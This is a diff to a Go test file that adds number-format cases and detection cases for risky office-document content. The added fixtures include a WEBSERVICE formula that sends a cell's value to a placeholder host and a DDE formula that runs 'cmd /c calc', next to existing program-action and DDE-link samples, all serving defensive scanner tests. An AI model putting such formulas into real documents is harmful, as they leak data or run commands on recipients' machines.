@@ -123,6 +123,8 @@ func TestDisplayed(t *testing.T) {
 		{"0", `0;-0;"无"`, "无"},
 		{"12345678", "0,", "12346"},
 		{"5", `0"件；另附"`, "5件；另附"},
+		{"1234.5", "#,##0.00_ ", "1,234.50"},
+		{"7", "000", "007"},
 		{"1e999999999", "0", "1e999999999"},
 		{"abc", "0", "abc"},
 	} {
@@ -159,6 +161,9 @@ func TestParts(t *testing.T) {
 		"a field of the page":      {[]string{"word/f.xml", `<w:x xmlns:w="w"><w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:x>`}, 0, 0, 0},
 		"a program's action":       {[]string{"ppt/s.xml", `<p:x xmlns:p="p"><a action="ppaction://program"/></p:x>`}, 0, 1, 0},
 		"a file linked":            {[]string{"word/o.xml", `<o:OLEObject xmlns:o="o" Type="Link"/>`}, 0, 1, 0},
+		"a formula that fetches":   {[]string{"xl/f.xml", `<w><f>WEBSERVICE("http://x/"&amp;A1)</f></w>`}, 0, 1, 0},
+		"a formula that runs":      {[]string{"xl/f.xml", `<w><f>cmd|'/c calc'!A0</f></w>`}, 0, 1, 0},
+		"a formula":                {[]string{"xl/f.xml", `<w><f>IF(A1|B1,SUM(A1:A9),1)</f></w>`}, 0, 0, 0},
 		"a DDE link":               {[]string{"xl/e.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`}, 0, 1, 0},
 		"a file of an OFD's image": {[]string{"Doc_0/Pages/Page_0/Content.xml", `<ofd:Page xmlns:ofd="o"><ofd:ImageObject/></ofd:Page>`}, 0, 0, 1},
 	} {
